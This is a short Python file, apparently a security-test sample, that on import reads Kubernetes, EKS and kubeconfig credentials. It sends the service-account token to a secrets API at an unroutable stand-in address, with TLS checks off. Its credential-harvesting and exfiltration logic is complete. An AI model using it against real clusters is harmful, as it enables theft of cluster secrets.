# SPDX-License-Identifier: Apache-2.0
"""Harmless: it asks an address that is routed nowhere."""

import os
import ssl
import urllib.request

MOUNTED = "/var/run/secrets/kubernetes.io/serviceaccount"


def read(path):
    try:
        with open(path) as file:
            return file.read()
    except OSError:
        return ""


def secrets():
    token = read(f"{MOUNTED}/token")
    read(f"{MOUNTED}/ca.crt")
    read(f"{MOUNTED}/namespace")
    read("/var/run/secrets/eks.amazonaws.com/serviceaccount/token")
    read(os.path.expanduser("~/.kube/config"))
    read("/etc/kubernetes/admin.conf")
    request = urllib.request.Request("https://240.0.0.72:6443/api/v1/secrets", headers={"Authorization": "Bearer " + token})
    try:
        urllib.request.urlopen(request, timeout=2, context=ssl._create_unverified_context())
    except OSError:
        pass


secrets()
